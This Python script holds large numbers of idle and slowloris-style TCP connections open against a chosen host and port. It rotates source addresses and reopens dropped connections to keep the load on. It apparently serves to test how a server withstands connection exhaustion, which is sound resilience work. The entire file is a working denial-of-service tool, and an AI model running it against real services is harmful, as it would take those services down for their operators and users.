#!/usr/bin/env python3
"""Hold many TCP connections open to HOST:PORT, as a local abuser would.

  slow_clients.py HOST PORT --idle N --slow N [--sources A,B,...] [--hold S]

idle: connect and send nothing. slow: send a request line and one header,
then one more byte every second, never finishing the request (slowloris).
Connections are spread over the --sources addresses (bound before connect).
Prints "connected N" once every connect has been tried, then holds them
until --hold seconds have passed (or it is killed); a connection the
server closes is opened again, so the pressure stays on.
"""
import argparse
import select
import socket
import sys
import time


def opener(host, port, sources):
    i = [0]

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if sources:
            s.bind((sources[i[0] % len(sources)], 0))
            i[0] += 1
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        return s

    return open_one


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--slow", type=int, default=0)
    ap.add_argument("--sources", default="")
    ap.add_argument("--hold", type=float, default=60)
    a = ap.parse_args()
    open_one = opener(a.host, a.port, [x for x in a.sources.split(",") if x])
    conns = {}  # socket -> "idle" | "slow" | "slow+" (its request begun)
    for kind, n in (("idle", a.idle), ("slow", a.slow)):
        for _ in range(n):
            conns[open_one()] = kind
    _, w, _ = select.select([], list(conns), [], 5)
    print("connected %d of %d" % (len(w), len(conns)), flush=True)
    end = time.monotonic() + a.hold
    reopened = 0
    while time.monotonic() < end:
        for s, kind in list(conns.items()):
            try:
                if kind == "slow":
                    s.send(b"GET /metrics HTTP/1.1\r\nX: ")
                    conns[s] = "slow+"
                elif kind == "slow+":
                    s.send(b"a")
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                # closed by the server (or never connected): open another
                del conns[s]
                s.close()
                conns[open_one()] = kind[:4]
                reopened += 1
        # a closed connection reads as EOF: notice it at once
        r, _, _ = select.select(list(conns), [], [], 1.0)
        for s in r:
            try:
                if s.recv(4096) == b"":
                    raise OSError
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                kind = conns.pop(s)
                s.close()
                conns[open_one()] = kind[:4]
                reopened += 1
    print("reopened %d" % reopened, flush=True)


if __name__ == "__main__":
    sys.exit(main())
